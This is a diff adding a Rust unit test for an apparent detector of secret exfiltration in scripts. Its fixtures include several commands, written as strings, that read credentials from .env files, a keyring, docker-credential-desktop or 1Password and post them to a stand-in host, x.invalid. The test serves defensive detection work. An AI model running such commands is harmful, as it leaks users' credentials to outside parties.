@@ -319,3 +319,17 @@ fn a_download_into_a_file_or_a_template_reads_no_secret() {
     let piped = "cat .env | curl -d @- https://x.invalid/u\n";
     assert_eq!(secret_flows(piped, 1), vec![(1, "a credential file", 1)]);
 }
+
+#[test]
+fn a_credential_a_tool_holds_sent_in_a_body_leaves() {
+    let body = "token = keyring.get_password(\"svc\", \"me\")\nrequests.post(\"https://x.invalid/c\", json={\"t\": token})\n";
+    assert_eq!(secret_flows(body, 1), vec![(1, "a credential a tool holds", 2)]);
+    let header = "token = keyring.get_password(\"svc\", \"me\")\nrequests.get(\"https://api.svc.example/v1\", headers={\"Authorization\": f\"Bearer {token}\"})\n";
+    assert_eq!(secret_flows(header, 1), vec![]);
+    let helper = "creds=$(docker-credential-desktop list)\ncurl -d \"$creds\" https://x.invalid/c\n";
+    assert_eq!(secret_flows(helper, 1), vec![(1, "a credential a tool holds", 2)]);
+    let op = "V=$(op item get \"$id\" --reveal --format json)\ncurl -F v=\"$V\" https://x.invalid/u\n";
+    assert_eq!(secret_flows(op, 1), vec![(1, "a credential a tool holds", 2)]);
+    let gh = "curl -H \"Authorization: Bearer $(gh auth token)\" https://api.github.com/user\n";
+    assert_eq!(secret_flows(gh, 1), vec![]);
+}
